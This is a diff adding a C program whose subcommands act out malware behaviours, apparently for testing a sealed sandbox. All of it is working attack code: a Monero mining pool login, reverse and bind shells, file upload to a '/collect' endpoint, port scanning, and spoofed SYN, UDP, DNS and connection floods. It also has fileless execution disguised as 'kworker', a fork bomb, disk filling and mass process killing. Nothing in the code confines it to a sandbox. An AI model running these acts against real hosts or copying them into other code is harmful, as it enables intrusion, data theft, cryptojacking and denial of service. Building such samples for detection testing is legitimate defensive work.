@@ -1,0 +1,98 @@
+/* Acts of the sandbox samples: harmless, because inside the sealed network nobody is reached, and without it nothing is. */
+#define _GNU_SOURCE
+#include <arpa/inet.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <netinet/ip.h>
+#include <netinet/tcp.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mman.h>
+#include <sys/socket.h>
+#include <sys/time.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
+
+static double now(void) { struct timespec t; clock_gettime(CLOCK_MONOTONIC, &t); return t.tv_sec + t.tv_nsec / 1e9; }
+
+static void burn(double seconds) { double end = now() + seconds; volatile unsigned long x = 1; while (now() < end) for (int i = 0; i < 100000; i++) x = x * 6364136223846793005UL + 1; }
+
+static struct sockaddr_in at(const char *ip, int port) { struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)}; inet_pton(AF_INET, ip, &a.sin_addr); return a; }
+
+/* Asks one server, by hand; static programs have no resolver. */
+static int resolve(const char *server, const char *name, char *ip) {
+  unsigned char q[512] = {0x12, 0x34, 1, 0, 0, 1}; int n = 12; const char *p = name;
+  while (*p) { int l = strcspn(p, "."); q[n++] = l; memcpy(q + n, p, l); n += l; p += l; if (*p == '.') p++; }
+  q[n++] = 0; q[n++] = 0; q[n++] = 1; q[n++] = 0; q[n++] = 1;
+  struct sockaddr_in a = at(server, 53); int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0); struct timeval t = {2, 0};
+  setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &t, sizeof t); sendto(s, q, n, 0, (void *)&a, sizeof a);
+  unsigned char r[512]; int got = recv(s, r, sizeof r, 0); close(s);
+  if (got < n + 16) return -1;
+  inet_ntop(AF_INET, r + got - 4, ip, 64); return 0;
+}
+
+static const char *server(void) { static char s[64] = "127.0.0.1"; FILE *f = fopen("/etc/resolv.conf", "r"); char line[256];
+  while (f && fgets(line, sizeof line, f)) if (sscanf(line, "nameserver %63s", s) == 1) break;
+  if (f) fclose(f); return s; }
+
+static int dial(const char *host, int port) {
+  char ip[64]; if (inet_addr(host) == INADDR_NONE) { if (resolve(server(), host, ip)) return -1; } else snprintf(ip, sizeof ip, "%s", host);
+  struct sockaddr_in a = at(ip, port); int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0); struct timeval t = {2, 0};
+  setsockopt(s, SOL_SOCKET, SO_SNDTIMEO, &t, sizeof t); setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &t, sizeof t);
+  if (connect(s, (void *)&a, sizeof a)) { close(s); return -1; } return s;
+}
+
+static void say(int s, const void *text, int length) { char b[1024]; if (send(s, text, length, MSG_NOSIGNAL) > 0) (void)!recv(s, b, sizeof b, 0); }
+
+static int hello(unsigned char *b, const char *name) { /* a TLS 1.2 ClientHello with a server name */
+  int n = strlen(name), at = 0; unsigned char x[64 + 256]; int e = 0;
+  x[e++] = 0; x[e++] = 0; x[e++] = 0; x[e++] = n + 5; x[e++] = 0; x[e++] = n + 3; x[e++] = 0; x[e++] = 0; x[e++] = n; memcpy(x + e, name, n); e += n;
+  int body = 2 + 32 + 1 + 2 + 2 + 2 + 2 + e; b[at++] = 22; b[at++] = 3; b[at++] = 1; b[at++] = (body + 4) >> 8; b[at++] = (body + 4) & 255;
+  b[at++] = 1; b[at++] = 0; b[at++] = body >> 8; b[at++] = body & 255; b[at++] = 3; b[at++] = 3; for (int i = 0; i < 32; i++) b[at++] = i * 7;
+  b[at++] = 0; b[at++] = 0; b[at++] = 2; b[at++] = 0xc0; b[at++] = 0x2f; b[at++] = 1; b[at++] = 0; b[at++] = e >> 8; b[at++] = e & 255;
+  memcpy(b + at, x, e); return at + e; }
+
+static unsigned short sum(void *p, int n) { unsigned long s = 0; unsigned short *w = p; while (n > 1) { s += *w++; n -= 2; } s = (s >> 16) + (s & 0xffff); return ~(s + (s >> 16)); }
+
+static void synflood(const char *ip, int port, double seconds) {
+  int s = socket(AF_INET, SOCK_RAW, IPPROTO_TCP), one = 1; struct sockaddr_in a = at(ip, port); if (s < 0) { perror("raw socket"); exit(1); }
+  setsockopt(s, IPPROTO_IP, IP_HDRINCL, &one, sizeof one); double end = now() + seconds;
+  struct { struct iphdr ip; struct tcphdr tcp; } __attribute__((packed)) p; 
+  for (unsigned i = 0; now() < end; i++) { memset(&p, 0, sizeof p); p.ip.version = 4; p.ip.ihl = 5; p.ip.ttl = 64; p.ip.protocol = 6; p.ip.tot_len = htons(sizeof p);
+    p.ip.saddr = htonl(0xac110002); p.ip.daddr = a.sin_addr.s_addr; p.tcp.source = htons(1024 + i % 60000); p.tcp.dest = htons(port); p.tcp.syn = 1; p.tcp.doff = 5; p.tcp.window = htons(512); p.tcp.seq = i;
+    p.ip.check = sum(&p.ip, 20); sendto(s, &p, sizeof p, 0, (void *)&a, sizeof a); if (i % 50 == 0) usleep(1000); } }
+
+static void serve(int port, const char *shell) {
+  int l = socket(AF_INET, SOCK_STREAM, 0), one = 1; setsockopt(l, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one); struct sockaddr_in a = at("0.0.0.0", port);
+  if (bind(l, (void *)&a, sizeof a) || listen(l, 4)) { perror("listen"); exit(1); }
+  for (;;) { int c = accept(l, 0, 0); if (c >= 0 && !fork()) { for (int i = 0; i < 3; i++) dup2(c, i); execl(shell, "sh", "-i", (char *)0); _exit(1); } close(c); } }
+
+int main(int argc, char **v) {
+#define IS(name, least) (argc > least && !strcmp(v[1], name))
+  char ip[64]; unsigned char b[2048]; setvbuf(stdout, 0, _IOLBF, 0);
+  if (IS("stratum", 3)) { for (;;) { int s = dial(v[2], atoi(v[3])); const char *m = "{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A\",\"pass\":\"x\",\"agent\":\"XMRig/6.21.0\",\"algo\":[\"rx/0\"]}}\n"; if (s >= 0) say(s, m, strlen(m)); burn(argc > 4 ? atof(v[4]) : 5); if (s >= 0) close(s); } }
+  else if (IS("resolve", 3)) { if (resolve(v[2], v[3], ip)) return 1; puts(ip); }
+  else if (IS("tls", 4)) { int s = dial(v[2], atoi(v[3])); if (s < 0) return 1; say(s, b, hello(b, v[4])); close(s); }
+  else if (IS("say", 3)) { int s = dial(v[2], atoi(v[3])); if (s < 0) return 1; if (argc > 4) say(s, v[4], strlen(v[4])); close(s); }
+  else if (IS("send", 4)) { int s = dial(v[2], atoi(v[3])), f = open(v[4], O_RDONLY); int n = f < 0 ? 0 : read(f, b, sizeof b); char head[256]; if (s < 0 || n <= 0) return 1;
+    n = snprintf(head, sizeof head, "POST /collect HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\n\r\n", v[2], n) + 0 * n; send(s, head, n, MSG_NOSIGNAL | MSG_MORE); lseek(f, 0, SEEK_SET); n = read(f, b, sizeof b); say(s, b, n); close(s); }
+  else if (IS("get", 4)) { int s = dial(v[2], atoi(v[3])), n; if (s < 0) return 1; n = snprintf((char *)b, sizeof b, "GET %s HTTP/1.0\r\nHost: %s\r\n\r\n", v[4], v[2]); send(s, b, n, MSG_NOSIGNAL); while ((n = read(s, b, sizeof b)) > 0) (void)!write(1, b, n); }
+  else if (IS("scan", 4)) for (int p = atoi(v[3]); p <= atoi(v[4]); p++) { int s = dial(v[2], p); if (s >= 0) close(s); }
+  else if (IS("synflood", 4)) synflood(v[2], atoi(v[3]), atof(v[4]));
+  else if (IS("udpflood", 4)) { int s = socket(AF_INET, SOCK_DGRAM, 0); struct sockaddr_in a = at(v[2], atoi(v[3])); double end = now() + atof(v[4]); memset(b, 'x', 512); for (unsigned i = 0; now() < end; i++) { sendto(s, b, 512, 0, (void *)&a, sizeof a); if (i % 50 == 0) usleep(1000); } }
+  else if (IS("memfd", 2)) { int in = open(v[2], O_RDONLY), m = memfd_create("kworker", 0), n; while ((n = read(in, b, sizeof b)) > 0) (void)!write(m, b, n); char *none[] = {0}; fexecve(m, v + 2, none); perror("memfd"); return 1; }
+  else if (IS("shell", 4)) { int s = dial(v[2], atoi(v[3])); if (s < 0) return 1; struct timeval t = {0, 0}; setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &t, sizeof t); for (int i = 0; i < 3; i++) dup2(s, i); execl(v[4], "sh", "-i", (char *)0); return 1; }
+  else if (IS("serve", 3)) serve(atoi(v[2]), v[3]);
+  else if (IS("burn", 2)) burn(atof(v[2]));
+  else if (IS("dnsflood", 2)) for (int i = 0; i < atoi(v[2]); i++) { char n[64]; snprintf(n, sizeof n, "h%d.flood.example", i); resolve(server(), n, ip); }
+  else if (IS("connflood", 4)) { for (int i = 0; i < atoi(v[4]); i++) { int s = socket(AF_INET, SOCK_STREAM, 0); struct sockaddr_in a = at(v[2], atoi(v[3])); if (s < 0 || connect(s, (void *)&a, sizeof a)) { if (s >= 0) close(s); usleep(1000); } } sleep(1); }
+  else if (IS("forkbomb", 1)) for (;;) { if (fork() < 0) usleep(1000); }
+  else if (IS("fill", 2)) { for (int i = 0;; i++) { char n[256]; snprintf(n, sizeof n, "%s/fill%d", v[2], i); int f = open(n, O_CREAT | O_WRONLY, 0600); memset(b, 1, sizeof b); for (long k = 0; k < 32 << 9 && write(f, b, sizeof b) > 0; k++); close(f); } }
+  else if (IS("logflood", 2)) { double end = now() + atof(v[2]); while (now() < end) puts("a line of no use at all, again and again and again and again and again"); }
+  else if (IS("killall", 1)) { double end = now() + 3; while (now() < end) { kill(-1, SIGKILL); for (int i = 2; i < 300; i++) kill(i, SIGKILL); usleep(10000); } }
+  else { fprintf(stderr, "act: no such act\n"); return 64; }
+  return 0;
+}
